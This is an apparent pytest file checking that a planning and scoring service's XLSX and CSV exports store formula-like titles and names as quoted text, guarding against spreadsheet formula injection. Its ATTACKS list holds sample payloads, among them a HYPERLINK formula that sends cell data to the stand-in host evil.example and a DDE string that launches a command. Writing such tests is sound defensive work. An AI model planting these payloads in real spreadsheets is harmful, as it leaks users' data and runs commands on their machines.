"""Issue 14, finding 9: a plan's title and a scheme's name landed as formulas in A1 of breakdown.xlsx and
results.xlsx. Every workbook the services export is saved through luoshi.spreadsheet.workbook_bytes: text is
a string cell, and text Excel would take for a formula also carries the quote prefix (its apostrophe)."""

from __future__ import annotations

import io
from datetime import date
from types import SimpleNamespace

from openpyxl import load_workbook

from luoshi.spreadsheet import csv_text
from luoshi_notify.planning.bulletin import bulletin_xlsx, compile_bulletin
from luoshi_scoring.service.export import results_xlsx
from luoshi_tasks.breakdown import BreakdownRow, read_breakdown, write_breakdown_csv, write_breakdown_xlsx
from tests.conftest import unique

LINK = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
ATTACKS = [LINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def assert_text(cell, text: str) -> None:
    assert cell.value == text, cell.value
    assert cell.data_type == "s", (cell.coordinate, cell.data_type)
    assert cell.quotePrefix, cell.coordinate


async def test_breakdown_xlsx_keeps_a_formula_title_as_text(tasks, office, make_unit):
    gov = await make_unit(kind="government", level="county", name=unique("测试县人民政府-"))
    title = f"{LINK}{unique()}"
    plan = await tasks.post(
        "/v1/plans", json={"title": title, "issuer": gov["name"], "issued_on": "2026-03-20"}, headers=office["headers"]
    )
    assert plan.status_code == 201, plan.text
    export = await tasks.get(f"/v1/plans/{plan.json()['id']}/breakdown.xlsx", headers=office["headers"])
    assert export.status_code == 200
    assert_text(load_workbook(io.BytesIO(export.content)).active["A1"], f"{title}任务分解表")


def test_every_xlsx_writer_writes_formula_like_text_as_text():
    rows = [BreakdownRow(row=i + 1, number=str(i + 1), title=t, lead_units=["质监局"]) for i, t in enumerate(ATTACKS)]
    sheet = load_workbook(io.BytesIO(write_breakdown_xlsx(LINK, rows))).active
    assert_text(sheet["A1"], f"{LINK}任务分解表")
    for r, text in enumerate(ATTACKS, 3):
        assert_text(sheet.cell(row=r, column=2), text.strip())
    # and it reads back as the same table
    back = read_breakdown(write_breakdown_xlsx(LINK, rows), "t.xlsx").rows
    assert [r.title for r in back] == [t.strip() for t in ATTACKS]

    line = SimpleNamespace(kind="indicator", ref="1", name="+合格率", points=1.0)
    card = SimpleNamespace(rank=1, unit_name="=1+1", unit_id=1, lines=[line], total=1.0, percent=100.0, grade="@优")
    results = load_workbook(io.BytesIO(results_xlsx(LINK, SimpleNamespace(period="2026", run_version=1), [card])))
    ws = results.active
    assert_text(ws["A1"], f"{LINK}（2026，第1版）")
    assert_text(ws["C2"], "+合格率")
    assert_text(ws["B3"], "=1+1")
    assert_text(ws["F3"], "@优")
    assert ws["A3"].value == 1 and ws["A3"].data_type == "n"  # numbers stay numbers

    bulletin = compile_bulletin(date(2026, 11, 30), [], [], {}, plan_title=LINK)
    book = load_workbook(io.BytesIO(bulletin_xlsx(bulletin)))
    assert_text(book["报送情况"]["A1"], f"{LINK}2026年11月任务落实情况通报")
    assert not any(c.data_type == "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)


def test_csv_text_gets_the_apostrophe_and_reads_back():
    assert [csv_text(t) for t in ATTACKS] == [f"'{t}" for t in ATTACKS]
    assert csv_text("夏邑县") == "夏邑县" and csv_text("") == ""
    rows = [BreakdownRow(row=1, number="1", title="=1+1", lead_units=["质监局"])]
    data = write_breakdown_csv(rows)
    assert b"'=1+1" in data
    assert read_breakdown(data, "t.csv").rows[0].title == "=1+1"
